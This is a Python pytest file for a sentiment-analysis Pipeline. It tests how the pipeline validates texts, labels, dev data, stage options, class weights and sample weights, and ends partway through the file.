"""Pipeline's checks of what it is given: texts, labels and dev data that are not one per text, unknown stage
names and options, and stages that do not fit together (refused before any work); odd and huge texts predict."""

from __future__ import annotations

import warnings

import numpy as np
import pandas as pd
import pytest

import sentiment
from sentiment import ConfigError, DataError, LabelSpellingWarning, ModelFileError, Pipeline
from sentiment.errors import UnknownLabelsError


# -- texts ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize("texts, pattern", [
    ([], "no texts"),
    ("a great film", "not a single string"),
    (b"a great film", "not bytes: decode them"),
    (["fine", None], "text 1 is missing"),
    ([float("nan")], "text 0 is missing"),
    ([np.nan, "x"], "text 0 is missing"),
    (["ok", 42], r"text 1 is not a string \(its type: int\)"),
    ([["a", "list"]], r"text 0 is not a string \(its type: list\)"),
    (42, "must be a list"),
])
@pytest.mark.parametrize("method", ["predict", "predict_proba", "annotate"])
def test_bad_texts_at_predict(pipe, texts, pattern, method):
    with pytest.raises(DataError, match=pattern):
        getattr(pipe, method)(texts)


def test_bad_texts_at_fit(binary):
    with pytest.raises(DataError, match="no texts"):
        Pipeline().fit([], [])
    with pytest.raises(DataError, match="single string"):
        Pipeline().fit("good", ["pos"])
    with pytest.raises(DataError, match="text 2 is missing"):
        Pipeline().fit(["good", "bad", None], ["p", "n", "p"])
    with pytest.raises(DataError, match="^dev text 1 is missing"):  # said of the dev texts, not the training ones
        Pipeline().fit(["good", "bad"], ["p", "n"], dev=(["fine", None], ["p", "n"]))
    filtered = pd.Series(["good", "bad", None, 4], index=[10, 11, 12, 13])  # e.g. df[df.lang == "en"].text
    with pytest.raises(DataError, match=r"^text 2 \(index 12\) is missing"):  # its position, and the label .loc takes
        Pipeline().fit(filtered, ["p", "n", "p", "n"])
    with pytest.raises(DataError, match=r"^text 3 \(index 'd'\) is not a string"):
        Pipeline().fit(filtered.fillna("x").set_axis(list("abcd")), ["p", "n", "p", "n"])
    with pytest.raises(DataError, match=r"^text 2 is missing"):  # an index of positions needs no second number
        Pipeline().fit(filtered.reset_index(drop=True), ["p", "n", "p", "n"])


@pytest.mark.parametrize("model", ["logreg", "nbsvm", "mlp"])
def test_an_empty_text_is_a_text_without_words(binary, model):
    """As a text that cleans to nothing ("<br/>") and as scikit-learn's vectorizers read it: no known feature,
    the model's guess without evidence; in training data too, beside texts with words."""
    options = {"epochs": 2} if model == "mlp" else {}
    pipe = Pipeline(model=model, **options).fit(binary.train_texts + [""], binary.train_labels + [binary.train_labels[0]])
    texts = ["", "  \n\t", "<br/>", "a great film"]
    assert pipe.known_features(texts).tolist()[:3] == [0, 0, 0] and pipe.known_features(texts)[3] > 0
    probabilities = pipe.predict_proba(texts)
    assert np.allclose(probabilities[0], probabilities[2]) and np.allclose(probabilities[1], probabilities[2])
    assert pipe.annotate([""])[0]["label"] in pipe.label_names_ and pipe.explain([""])[0]["words"] == []


@pytest.mark.parametrize("texts, pattern", [
    ([""], "the only training text is empty or only whitespace"),
    (["", " ", "\t"], "all 3 training texts are empty or only whitespace"),
])
def test_training_texts_all_empty_are_refused(texts, pattern):
    with pytest.raises(DataError, match=pattern):
        Pipeline().fit(texts, list(range(len(texts))))
    with pytest.raises(DataError, match=pattern):
        sentiment.TextVectorizer().fit(texts)


def test_huge_text_predicts(pipe):
    text = ("The plot was great and the acting wonderful. " * 23000)[: 1 << 20]
    assert len(text) >= 1_000_000
    probabilities = pipe.predict_proba([text, "awful film"])
    assert probabilities.shape == (2, 2)
    assert pipe.predict([text]).tolist() == ["pos"]


def test_unicode_and_odd_texts_predict(pipe):
    texts = ["😍😍😍", "!!!", "12345", "日本語のテキスト", "<br/>", "@user", "http://x.io"]
    probabilities = pipe.predict_proba(texts)
    assert probabilities.shape == (len(texts), 2)
    assert np.isfinite(probabilities).all()
    np.testing.assert_allclose(probabilities.sum(axis=1), 1.0)


# -- labels and dev data -------------------------------------------------------------------------------
@pytest.mark.parametrize("labels, pattern", [
    (["p", "n"], "got 3 texts but 2 labels"),
    (["p"], "got 3 texts but 1 label;"),
    (["p", "n", "p", "n"], "got 3 texts but 4 labels"),
    (["p", "p", "p"], "at least two different labels"),
    (["p", None, "n"], "label 1 is missing"),
    (["p", float("nan"), "n"], "label 1 is missing"),
    (["p", " ", "n"], "label 1 is missing"),
    (np.array([1.0, np.nan, 0.0], dtype=np.float32), "label 1 is missing"),  # numpy's own NaN too
    (["p", 1, "n"], "mix types"),
    ("pnp", "not a single string"),
    (np.array([b"p", b"n", b"p"], dtype="S"), r"label 0 is bytes \(b'p'\); decode the labels to text first"),
    ([["p", "q"], [b"n"], ["p"]], r"a label of label list 1 is bytes \(b'n'\); decode .*for text_labels in labels"),
    (["p", "n\udcff", "p"], r"label 1 .* holds a lone surrogate"),
])
def test_bad_labels(labels, pattern):
    with pytest.raises(DataError, match=pattern):
        Pipeline().fit(["good film", "bad film", "great film"], labels)


def test_single_class_message_shows_the_plain_label():
    with pytest.raises(DataError, match="all labels are 1;"):
        Pipeline().fit(["good film", "great film"], [1, 1])
    with pytest.raises(DataError, match="all labels are 'p';"):
        Pipeline().fit(["good film", "great film"], ["p", "p"])


def test_a_label_of_its_own_for_every_text_is_refused_as_no_label_column():
    texts = [f"film number {i}" for i in range(12)]
    with pytest.raises(DataError, match="every one of the 12 texts has a label of its own .*--label-column"):
        Pipeline().fit(texts, list(range(12)))  # an id column
    with pytest.raises(DataError, match="every one of the 12 texts has a label of its own"):
        Pipeline().fit(texts, texts)  # the texts again
    assert len(Pipeline().fit(texts[:3], ["a", "b", "c"]).classes_) == 3  # a small example may


@pytest.mark.parametrize("labels, pattern", [
    (None, "not NoneType"),
    (5, "not int"),
    ({0: "pos", 1: "neg"}, "not dict"),
    (np.array([[1, 0], [0, 1], [1, 0]]), "one-dimensional.*shape \\(3, 2\\).*MultiLabelBinarizer"),
    (list(np.array([[1, 0], [0, 1], [1, 0]])), "label 0 is a ndarray"),
    (pd.DataFrame({"label": ["p", "n", "p"]}), r'pass one column of labels \(e\.g\. df\["label"\]\), not a DataFrame'),
    (np.array([["p"], ["n"], ["p"]]), r"shape \(3, 1\); pass the column flattened \(labels\.ravel\(\)\)$"),
])
def test_labels_that_are_not_one_per_text(labels, pattern):
    with pytest.raises(DataError, match=pattern):
        Pipeline().fit(["good film", "bad film", "great film"], labels)


def test_a_column_of_texts_or_labels_is_told_to_be_flattened_not_to_be_lists_of_labels(fitted, binary):
    """A column (shape (n, 1), as df[["label"]].to_numpy() gives it) is one value per text: the advice is to
    flatten it, not the advice for a 0/1 matrix of several labels per text."""
    texts, labels = np.array(binary.dev_texts).reshape(-1, 1), np.array(binary.dev_labels).reshape(-1, 1)
    pipe = fitted("count", "nb")
    with pytest.raises(DataError, match=r"labels must be one-dimensional .*shape \(\d+, 1\); pass the column "
                                        r"flattened \(labels\.ravel\(\)\)$"):
        pipe.score(binary.dev_texts, labels)
    with pytest.raises(DataError, match=r"texts must be one-dimensional .*; pass the column flattened \(texts\.ravel\(\)\)$"):
        pipe.predict(texts)
    with pytest.raises(DataError, match=r"shape \(2, 2\); pass one column of texts$"):
        pipe.predict(np.array([["a", "b"], ["c", "d"]]))
    assert pipe.score(texts.ravel(), labels.ravel()) == pipe.score(binary.dev_texts, binary.dev_labels)


def test_labels_from_numpy_and_pandas(binary):
    labels = np.array(binary.train_labels)
    a = Pipeline("count", "nb").fit(pd.Series(binary.train_texts), labels)
    b = Pipeline("count", "nb").fit(binary.train_texts, pd.Series(binary.train_labels))
    np.testing.assert_array_equal(a.predict_proba(binary.dev_texts), b.predict_proba(binary.dev_texts))
    assert a.predict(np.array(["a superb film"])).tolist() == ["pos"]


def test_labels_spelt_two_ways_are_warned_of(binary):
    texts = binary.train_texts[:40]
    spaced = [f"{y} " if i % 4 == 0 and y == "pos" else y for i, y in enumerate(binary.train_labels[:40])]
    with pytest.warns(LabelSpellingWarning, match=r"differ only in spaces around them \(pos / 'pos '\)"):
        pipe = Pipeline("count", "nb").fit(texts, spaced)
    assert pipe.classes_.tolist() == ["neg", "pos", "pos "]  # still classes of their own: the warning says so
    cased = [[y.upper() if i % 4 < 2 else y] for i, y in enumerate(binary.train_labels[:40])]
    with pytest.warns(LabelSpellingWarning, match=r"in capitalisation \(NEG / neg; POS / pos\)"):
        Pipeline("count", "logreg").fit(texts, cased)
    with warnings.catch_warnings():
        warnings.simplefilter("error", LabelSpellingWarning)
        Pipeline("count", "nb").fit(texts, binary.train_labels[:40])


def test_labels_from_a_generator(binary):
    texts, labels = binary.train_texts[:40], binary.train_labels[:40]
    pipe = Pipeline("count", "nb").fit(texts, (label for label in labels))
    assert pipe.classes_.tolist() == ["neg", "pos"]


def test_dev_labels_may_be_the_display_names(binary):
    texts = binary.train_texts[:40]
    numbers = [int(label == "pos") for label in binary.train_labels[:40]]
    dev_texts = binary.train_texts[40:50]
    named = ["positive" if label == "pos" else "negative" for label in binary.train_labels[40:50]]
    pipe = Pipeline("tfidf", "mlp", epochs=2, hidden_sizes=[4]).fit(texts, numbers, dev=(dev_texts, named))
    assert pipe.label_names_ == ["negative", "positive"] and pipe.model_.history_[0]["dev_macro_f1"] is not None
    assert pipe.info_["trained_on"] == 40  # the named dev labels, not a held-out part, stopped it
    with pytest.raises(UnknownLabelsError, match=r"dev label\(s\) neutral are none of the training labels"):
        Pipeline("tfidf", "logreg").fit(texts, numbers, dev=(dev_texts, ["neutral"] * 10))


@pytest.mark.parametrize("dev, pattern", [
    (("only texts",), "dev must be a \\(texts, labels\\) pair"),
    ("dev.csv", "dev must be a \\(texts, labels\\) pair"),
    ((["good", "bad", "fine"], ["pos", "neg"]), "dev has 3 texts but 2 labels"),
    ((["good", "bad"], None), "not NoneType"),
    ((["good", "bad"], ["pos", None]), "^dev label 1 is missing; drop or fill"),
    ((["good", "bad"], [("pos",), None]), r"^dev label 1 is missing \(None/NaN\)"),
    ((["good", "bad"], ["pos", "maybe"]), r"^dev label\(s\) maybe are none of the training labels \(neg, pos\); fix them, "
                                          r"or leave those texts out of dev$"),  # (not evaluate's advice)
])
def test_bad_dev_data(binary, dev, pattern):
    with pytest.raises(DataError, match=pattern):
        Pipeline("tfidf", "logreg").fit(binary.train_texts[:20], binary.train_labels[:20], dev=dev)


# -- stages: unknown names and options, stages that do not fit together --------------------------------
@pytest.mark.parametrize("model, options, message", [
    ("nbsvm", {"sublinear_tf": False}, "sublinear_tf changes nothing for model 'nbsvm', which reads each feature as 0 or 1"),
    ("nbsvm", {"norm": "l1", "binary": True}, "norm and binary change nothing for model 'nbsvm'.*leave them out"),
    ("nbsvm", {"norm": "l1", "binary": True, "sublinear_tf": True},
     r"^\w+, \w+ and \w+ change nothing for model 'nbsvm'"),
    ("logreg", {"char_ngram_range": (2, 4)}, "char_ngram_range changes nothing with analyzer='word'"),
    ("logreg", {"analyzer": "char", "ngram_range": (1, 3)}, "ngram_range changes nothing with analyzer='char'"),
    ("logreg", {"negation": False, "negation_scope": 3}, "negation_scope changes nothing with negation=False .*; "
                                                         "leave it out, or set negation=True"),
])
def test_an_option_the_stages_never_read_is_said_so(binary, model, options, message):
    from sentiment import IgnoredOptionWarning

    with pytest.warns(IgnoredOptionWarning, match=message) as caught:
        Pipeline("tfidf", model, **options).fit(binary.train_texts, binary.train_labels)
    assert caught[0].filename == __file__  # the user's line
    vectorizer_options = {k: v for k, v in options.items() if k not in ("sublinear_tf", "norm", "binary")}
    if vectorizer_options:  # the vectorizer alone says it too (of its own options, and of the cleaning's)
        with pytest.warns(IgnoredOptionWarning, match=message) as caught:
            sentiment.TextVectorizer("tfidf", **vectorizer_options).fit(binary.train_texts)
        assert caught[0].filename == __file__
    with warnings.catch_warnings():
        warnings.simplefilter("error", IgnoredOptionWarning)  # the same stages given what they read: no word
        Pipeline("tfidf", "logreg", sublinear_tf=False, ngram_range=(1, 3)).fit(binary.train_texts, binary.train_labels)
        Pipeline("tfidf", model).fit(binary.train_texts, binary.train_labels)


@pytest.mark.parametrize("vectorizer, model, options, message", [
    ("tfidf", "mlp", {"hidden_sizes": [], "dropout": 0.2, "activation": "tanh"},
     r"activation and dropout change nothing for an mlp without hidden layers \(hidden_sizes=\[\]: a linear model\)"),
    ("word2vec", "lstm", {"pooling": "mean"}, "pooling changes nothing for model 'lstm', which reads the words in order"),
    ("word2vec", "lstm", {"init_embeddings": False, "vector_size": 8, "window": 2, "min_count": 1},
     r"vector_size and window change nothing for model 'lstm' with init_embeddings=False"),
])
def test_a_network_option_the_network_never_reads_is_said_so(binary, vectorizer, model, options, message):
    from sentiment import IgnoredOptionWarning

    texts, labels = binary.train_texts[:40], binary.train_labels[:40]
    with pytest.warns(IgnoredOptionWarning, match=message):
        Pipeline(vectorizer, model, epochs=1, **options).fit(texts, labels)
    with warnings.catch_warnings():
        warnings.simplefilter("error", IgnoredOptionWarning)  # where the network reads them: no word
        Pipeline("tfidf", "mlp", epochs=1, dropout=0.2, activation="tanh").fit(texts, labels)
        Pipeline("word2vec", "mlp", epochs=1, pooling="mean").fit(texts, labels)
        Pipeline("word2vec", "lstm", epochs=1, vector_size=8, window=2).fit(texts, labels)  # its embeddings start so


def test_unknown_pipeline_names_and_options():
    with pytest.raises(ConfigError, match="unknown vectorizer 'bert'.*count"):
        Pipeline(vectorizer="bert")
    with pytest.raises(ConfigError, match="unknown model 'forest'.*logreg"):
        Pipeline(model="forest")
    with pytest.raises(ConfigError, match="unknown option 'ngrams'.*valid options:.*ngram_range"):
        Pipeline(ngrams=2)
    with pytest.raises(ConfigError, match="unknown option 'vector_size'"):
        Pipeline("tfidf", "logreg", vector_size=16)  # an option of another vectorizer
    with pytest.raises(ConfigError, match=r"unknown option 'hidden_size' .* \(did you mean 'hidden_sizes'\?\); valid"):
        Pipeline("tfidf", "mlp", hidden_size=5)  # the lstm's option, one letter from the mlp's
    with pytest.raises(ConfigError, match=r"'ngram_rang': no cleaner, vectorizer or model has it \(did you mean 'ngram_range'"):
        Pipeline().set_params(ngram_rang=(1, 2))
    with pytest.raises(ConfigError, match=r"'lowercas' is not an option of the cleaning \(did you mean 'lowercase'\?\)"):
        sentiment.Cleaner(lowercas=True)
    with pytest.raises(ConfigError, match=r"unknown option 'c' .* \(did you mean 'C'\?\); valid"):
        Pipeline(c=1.0)  # in another case: too short for a near match
    with pytest.raises(ConfigError, match=r"unknown option 'epochs' .* \(an option of model 'lstm' or 'mlp': choose "
                                          r"one of them\); valid options"):
        Pipeline(epochs=3)  # another stage's option by its exact name: which stages have it
    with pytest.raises(ConfigError, match=r"'vector_size' for vectorizer 'tfidf' \(an option of vectorizer 'word2vec': "
                                          r"choose it\)"):
        sentiment.TextVectorizer(vector_size=3)
    with pytest.raises(ConfigError, match=r"'random_state' .* \(the seeds are seed for word2vec and net_seed for mlp"):
        Pipeline(model="mlp", random_state=0)  # scikit-learn's name: where the seeds are
    for call in (lambda: Pipeline().set_params(random_state=0), lambda: sentiment.TextVectorizer(random_state=0)):
        with pytest.raises(ConfigError, match="the seeds are seed for word2vec"):  # as GridSearchCV sets it
            call()
    with pytest.raises(ConfigError) as refused:
        Pipeline(zzz=1)
    assert "did you mean" not in str(refused.value)  # nothing close: no guess


@pytest.mark.parametrize("vectorizer, model, options, pattern", [
    ("tfidf", "lstm", {}, "reads token sequences; use it with vectorizer 'word2vec'"),
    ("count", "lstm", {"init_embeddings": False}, "reads token sequences"),
    ("word2vec", "nb", {}, "model 'nb' needs non-negative features .*vectorizer 'word2vec'"),
    ("word2vec", "complement_nb", {}, "needs non-negative features"),
    ("word2vec", "nbsvm", {}, "needs non-negative features"),
    ("tfidf", "mlp", {"device": "cuda"}, "device='cuda', but this machine has no CUDA GPU"),
    ("word2vec", "lstm", {"device": "cuda:0"}, "no CUDA GPU"),
    ("count", "logreg", {"binary": 1}, "binary must be true or false, not 1"),  # 1 == True: not taken for it
    ("tfidf", "logreg", {"sublinear_tf": 0}, "sublinear_tf must be true or false, not 0"),
    ("word2vec", "lstm", {"bidirectional": 1}, "bidirectional must be true or false, not 1"),
])
def test_pipeline_fit_refuses_before_cleaning(binary, no_cleaning, vectorizer, model, options, pattern):
    with pytest.raises(ConfigError, match=pattern):
        Pipeline(vectorizer, model, **options).fit(binary.train_texts, binary.train_labels)


def test_compatible_stages_still_fit(binary):
    pipe = Pipeline("tfidf", "mlp", device="cpu", epochs=1, hidden_sizes=[4]).fit(binary.train_texts, binary.train_labels)
    assert pipe.predict(binary.dev_texts[:2]).shape == (2,)


@pytest.mark.parametrize("vec_id", ["tfidf", "count", "word2vec-mean"])
def test_known_features_count_what_the_vectorizer_knows(fitted, vec_id):
    pipe = fitted(vec_id, "logreg")
    known = pipe.known_features(["这部电影太棒了", "qqq zzz", "a great film"])
    assert known[0] == known[1] == 0 and known[2] > 0
    annotated = pipe.annotate(["qqq zzz", "a great film"], known_features=True)
    assert [a["known_features"] for a in annotated] == known[1:].tolist()
    assert [a["scores"] for a in annotated] == [a["scores"] for a in pipe.annotate(["qqq zzz", "a great film"])]
    assert "known_features" not in pipe.annotate(["a great film"])[0]


@pytest.mark.parametrize("vec_id", ["tfidf", "count"])
def test_known_features_come_from_the_same_vectorizing_as_the_scores(fitted, vec_id, monkeypatch):
    pipe = fitted(vec_id, "logreg")
    calls = []
    original = type(pipe.vectorizer_).transform_csr
    monkeypatch.setattr(type(pipe.vectorizer_), "transform_csr", lambda self, docs: calls.append(docs) or original(self, docs))
    pipe.annotate(["qqq zzz", "a great film"], known_features=True)
    assert len(calls) == 1


def test_an_ensemble_knows_what_any_member_knows(fitted):
    from sentiment import Ensemble

    ensemble = Ensemble([fitted("tfidf", "logreg"), fitted("count", "nb")])
    assert ensemble.known_features(["qqq", "a great film"]).tolist()[0] == 0
    assert ensemble.known_features(["a great film"])[0] == max(m.known_features(["a great film"])[0]
                                                               for m in ensemble.members)
    annotated = ensemble.annotate(["qqq", "a great film"], known_features=True)
    assert [a["known_features"] for a in annotated] == ensemble.known_features(["qqq", "a great film"]).tolist()
    np.testing.assert_allclose(ensemble.predict_proba(["a great film"]),
                               np.mean([m.predict_proba(["a great film"]) for m in ensemble.members], axis=0))


def test_yes_no_labels_keep_their_names_and_do_not_mix_with_numbers(binary):
    texts = binary.train_texts[:40]
    flags = [y == "pos" for y in binary.train_labels[:40]]
    pipe = Pipeline("tfidf", "logreg").fit(texts, flags)
    assert pipe.label_names_ == ["False", "True"]  # not negative / positive: a yes/no label need not be a polarity
    assert pipe.score(texts, flags) > 0.8
    with pytest.raises(DataError, match=r"labels mix types, e.g. (True|False) \(bool\), [01] \(int\); use one kind"):
        Pipeline("tfidf", "logreg").fit(texts, [int(f) if i % 2 else f for i, f in enumerate(flags)])
    floats = Pipeline("tfidf", "logreg").fit(texts, [float(f) for f in flags])  # a pandas column with gaps
    assert floats.label_names_ == ["negative", "positive"]


def test_the_progress_bar_shows_a_later_stage_without_the_cleanings_count():
    from sentiment.progress import FitProgress

    with FitProgress(True, 10) as progress:
        progress.update(10)
        assert "10/10" in str(progress.bar)
        progress.stage("training (mlp)")
        shown = str(progress.bar)
        assert shown.startswith("training (mlp): 00:") and "10/10" not in shown and "text/s" not in shown


# -- class weights ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("model", ["logreg", "nbsvm"])
def test_a_class_weight_dict_weighs_the_classes_it_names(five, model):
    """Labels by value or display name; a class left out weighs 1; equal weights are no weights. nbsvm's
    one-vs-rest problems (five classes) weigh each text by its class."""
    texts, labels = five.train_texts, five.train_labels
    plain = Pipeline(model=model).fit(texts, labels)
    equal = Pipeline(model=model, class_weight={0: 1, 1: 1.0, "neutral": 1}).fit(texts, labels)
    np.testing.assert_allclose(equal.predict_proba(five.dev_texts), plain.predict_proba(five.dev_texts), atol=1e-6)
    heavy = Pipeline(model=model, class_weight={"very positive": 50}).fit(texts, labels)  # the display name of 4
    of_class_4 = [text for text, label in zip(five.dev_texts, five.dev_labels) if label == 4]
    raised = np.log(heavy.predict_proba(of_class_4)[:, 4]) - np.log(plain.predict_proba(of_class_4)[:, 4])
    assert raised.mean() > 0.02  # surer of class 4 where it is right (nbsvm: the weighted NB ratios of the rest change)


def test_a_class_weight_dict_reaches_the_networks_loss(binary):
    pipe = Pipeline(model="mlp", epochs=1, hidden_sizes=[4], class_weight={"pos": 3}).fit(binary.train_texts,
                                                                                           binary.train_labels)
    assert pipe.model_._train_config().class_weight == (1.0, 3.0)  # codes in the order of classes_: neg, pos
    assert Pipeline(model="mlp", class_weight="balanced").build_stages()[2]._train_config().class_weight == "balanced"


def test_a_class_weight_for_a_label_no_training_text_has_is_left_out_with_a_warning(binary):
    """A cross-validation fold may lack a rare class (scikit-learn ignores its weight); a typo is said."""
    with pytest.warns(sentiment.AbsentLabelWarning, match=r"class_weight names 'good', which no training text has as its label, so it "
                                         r"weighs nothing here; the labels are: neg, pos"):
        weighted = Pipeline(class_weight={"good": 2, "pos": 1}).fit(binary.train_texts, binary.train_labels)
    np.testing.assert_allclose(weighted.predict_proba(binary.dev_texts),
                               Pipeline().fit(binary.train_texts, binary.train_labels).predict_proba(binary.dev_texts))


def test_a_class_weight_dict_is_saved_and_refitted(binary, tmp_path):
    from sklearn.base import clone

    pipe = Pipeline(class_weight={"pos": 4}).fit(binary.train_texts, binary.train_labels)
    pipe.save(tmp_path / "m")
    loaded = sentiment.load(tmp_path / "m")
    assert loaded.get_params()["class_weight"] == {"pos": 4.0}
    again = clone(loaded).fit(binary.train_texts, binary.train_labels)
    np.testing.assert_allclose(again.predict_proba(binary.dev_texts), pipe.predict_proba(binary.dev_texts))


@pytest.mark.parametrize("weights, labels, error, pattern", [
    ({"pos": -1}, None, ConfigError, r"class_weight must be None, 'balanced' or a dict of labels to weights from "
                                     r"1e-06 to 1e\+06"),
    ({}, None, ConfigError, "a dict of labels to weights"),
    ({"pos": True}, None, ConfigError, "a dict of labels to weights"),
    ({"pos": 1e308}, None, ConfigError, "a dict of labels to weights from 1e-06 to 1e\\+06"),
    ("{0: 2}", None, ConfigError, r"class_weight \{0: 2\} is not a JSON object; write it as JSON, the labels in double"),
    ("heavy", None, ConfigError, r"class_weight='heavy' is not valid; choose one of: None, balanced"),
    ({"joy": 2}, [["joy"], ["sad"], ["joy", "sad"]] * 4, ConfigError, "goes with one label per text"),
])
def test_bad_class_weights_are_refused(binary, weights, labels, error, pattern):
    texts = binary.train_texts[:12] if labels else binary.train_texts
    with pytest.raises(error, match=pattern):
        Pipeline(class_weight=weights).fit(texts, labels or binary.train_labels)


# -- sample weights ------------------------------------------------------------------------------------
@pytest.mark.parametrize("model, tolerance", [("nb", 1e-9), ("complement_nb", 1e-9), ("logreg", 2e-3),
                                              ("nbsvm", 2e-3)])
def test_a_sample_weight_of_two_counts_as_the_text_given_twice(binary, model, tolerance):
    texts, labels = binary.train_texts, binary.train_labels  # count features: duplicates change no IDF
    weights = np.ones(len(texts))
    weights[:30] = 2.0
    weighted = Pipeline("count", model).fit(texts, labels, sample_weight=weights)
    doubled = Pipeline("count", model).fit(texts + texts[:30], labels + labels[:30])
    np.testing.assert_allclose(weighted.predict_proba(binary.dev_texts), doubled.predict_proba(binary.dev_texts),
                               atol=tolerance)
    assert not np.allclose(weighted.predict_proba(binary.dev_texts),
                           Pipeline("count", model).fit(texts, labels).predict_proba(binary.dev_texts), atol=tolerance)


@pytest.mark.parametrize("vectorizer, model", [("tfidf", "mlp"), ("word2vec", "lstm")])
def test_the_networks_weigh_the_loss_by_sample_weight(binary, vectorizer, model):
    texts, labels = binary.train_texts, binary.train_labels
    options = {"epochs": 2, "dev_fraction": 0.2, "min_count": 1} if model == "lstm" else {"epochs": 2, "dev_fraction": 0.2}
    plain = Pipeline(vectorizer, model, **options).fit(texts, labels)
    alike = Pipeline(vectorizer, model, **options).fit(texts, labels, sample_weight=np.full(len(texts), 3.0))
    np.testing.assert_allclose(alike.predict_proba(binary.dev_texts), plain.predict_proba(binary.dev_texts), atol=1e-5)
    light_pos = np.array([0.05 if y == "pos" else 1.0 for y in labels])  # positive texts count for little
    tilted = Pipeline(vectorizer, model, **options).fit(texts, labels, sample_weight=light_pos)
    column = list(plain.classes_).index("pos")
    assert tilted.predict_proba(binary.dev_texts)[:, column].mean() < plain.predict_proba(binary.dev_texts)[:, column].mean()


def test_sample_weights_count_across_batches_not_only_within_one(binary):
    """A batch of one text (or of texts of one weight) still weighs it against the others: the weights are
    scaled over all the training rows, not batch by batch."""
    options = {"epochs": 2, "dev_fraction": 0, "batch_size": 1, "hidden_sizes": [8]}
    texts, labels = binary.train_texts[:60], binary.train_labels[:60]
    plain = Pipeline("tfidf", "mlp", **options).fit(texts, labels)
    heavy_pos = np.array([10.0 if y == "pos" else 1.0 for y in labels])
    weighted = Pipeline("tfidf", "mlp", **options).fit(texts, labels, sample_weight=heavy_pos)
    column = list(plain.classes_).index("pos")
    assert weighted.predict_proba(binary.dev_texts)[:, column].mean() > plain.predict_proba(binary.dev_texts)[:, column].mean() + 0.02
    alike = Pipeline("tfidf", "mlp", **options).fit(texts, labels, sample_weight=np.full(60, 0.25))
    np.testing.assert_allclose(alike.predict_proba(binary.dev_texts), plain.predict_proba(binary.dev_texts), atol=1e-5)


def test_sample_weight_follows_its_texts_into_the_held_out_tuning_part():
    """The same model as one fitted on the texts kept for training, with their own weights, and tuned on the
    ones held out."""
    from sentiment.splits import train_dev_split

    rng = np.random.default_rng(0)
    texts = [f"{a} and {b} text {i}" for i, (a, b) in enumerate(rng.choice(["glad", "furious", "scared", "calm"], (60, 2)))]
    labels = [sorted({w for w in text.split()[:3:2]}) for text in texts]
    weights = rng.uniform(0.1, 3.0, len(texts))
    pipe = Pipeline("count", "logreg").fit(texts, labels, sample_weight=weights)
    kept, kept_labels, held, held_labels = train_dev_split(list(range(len(texts))), labels, 0.1, part="tune")
    manual = Pipeline("count", "logreg").fit([texts[i] for i in kept], kept_labels, sample_weight=weights[kept],
                                             dev=([texts[i] for i in held], held_labels))
    assert pipe.info_["tuned_on"] == len(held)
    np.testing.assert_allclose(pipe.predict_proba(texts), manual.predict_proba(texts))
    np.testing.assert_array_equal(pipe.thresholds_, manual.thresholds_)


def test_a_class_whose_texts_all_weigh_nothing_is_refused(binary):
    zero_pos = [0.0 if y == "pos" else 1.0 for y in binary.train_labels]
    with pytest.raises(DataError, match="the texts of class 'pos' all have sample_weight 0, so nothing would be learnt"):
        Pipeline("count", "nb").fit(binary.train_texts, binary.train_labels, sample_weight=zero_pos)
    labels = [["joy"], ["anger"], ["joy", "anger"], ["fear"]] * 10
    with pytest.raises(DataError, match="the texts of label 'fear' all have sample_weight 0"):
        Pipeline().fit(binary.train_texts[:40], labels, sample_weight=np.tile([1.0, 1.0, 1.0, 0.0], 10))
    with pytest.raises(DataError, match="the texts without label 'joy' all have sample_weight 0"):  # its negatives
        Pipeline().fit(binary.train_texts[:40], labels, sample_weight=np.tile([1.0, 0.0, 1.0, 0.0], 10))


def test_nbsvm_class_weight_is_sample_weight_by_class(five):
    """As scikit-learn defines class_weight, also in NB-SVM's count ratios (the 'rest' mixes classes)."""
    by_class = Pipeline("count", "nbsvm", class_weight={"neutral": 3}).fit(five.train_texts, five.train_labels)
    by_text = Pipeline("count", "nbsvm").fit(five.train_texts, five.train_labels,
                                             sample_weight=[3.0 if y == 2 else 1.0 for y in five.train_labels])
    np.testing.assert_allclose(by_class.predict_proba(five.dev_texts), by_text.predict_proba(five.dev_texts))


def test_score_weighs_the_texts_by_sample_weight(fitted, binary):
    from sklearn.metrics import accuracy_score

    pipe = fitted("count", "nb")
    weights = np.linspace(0.1, 3.0, len(binary.dev_texts))
    expected = accuracy_score(binary.dev_labels, pipe.predict(binary.dev_texts), sample_weight=weights)
    assert pipe.score(binary.dev_texts, binary.dev_labels, sample_weight=weights) == pytest.approx(expected)
    texts = ["glad and happy", "so furious", "glad but furious", "scared stiff"] * 10
    labels = [["joy"], ["anger"], ["joy", "anger"], ["fear"]] * 10
    several = Pipeline("tfidf", "logreg", tune_fraction=0).fit(texts, labels)
    assert several.score(texts, labels, sample_weight=np.full(40, 2.0)) == pytest.approx(several.score(texts, labels))


def test_sample_weight_in_cross_validation(binary, monkeypatch):
    from sklearn.model_selection import cross_val_score

    weights = np.linspace(0.5, 2.0, len(binary.train_texts))
    given, fit = [], Pipeline.fit
    monkeypatch.setattr(Pipeline, "fit", lambda self, *a, **k: given.append(k["sample_weight"]) or fit(self, *a, **k))
    scores = cross_val_score(Pipeline("count", "logreg"), binary.train_texts, binary.train_labels, cv=3,
                             params={"sample_weight": weights}, error_score="raise")
    assert len(scores) == 3 and scores.min() > 0.8
    # each fit had its fold's weights: every text trains in two of the three folds, with its own weight
    np.testing.assert_array_equal(np.sort(np.concatenate(given)), np.sort(np.repeat(weights, 2)))


@pytest.mark.parametrize("weights, pattern", [
    ([1.0, 2.0], r"got 200 texts but 2 sample weights; give one weight per text"),
    ("heavy", "sample_weight must be one number per text"),
    ([[1.0]] * 200, "sample_weight must be one number per text"),
    (["a"] * 200, "sample_weight must hold numbers"),
    (np.full(200, 1 + 1j), "sample_weight must hold numbers"),  # not their real parts, with a warning
    ([1.0] * 199 + [-1.0], r"sample_weight 199 is -1.0; weights must be 0 or from 1e-06 to 1e\+06"),
    ([1.0] * 199 + [float("nan")], r"sample_weight 199 is nan"),
    ([1.0] * 199 + [1e308], r"sample_weight 199 is 1e\+308; weights must be 0 or from 1e-06 to 1e\+06 \(rescale them"),
    ([1e-300] * 200, r"sample_weight 0 is 1e-300; weights must be 0 or from 1e-06"),
    ([0.0] * 200, "every sample_weight is 0, so nothing would be learnt"),
])
def test_bad_sample_weights_are_refused_before_any_work(binary, no_cleaning, weights, pattern):
    with pytest.raises(DataError, match=pattern):
        Pipeline().fit(binary.train_texts, binary.train_labels, sample_weight=weights)


def test_fits_warnings_point_at_the_callers_line(binary):
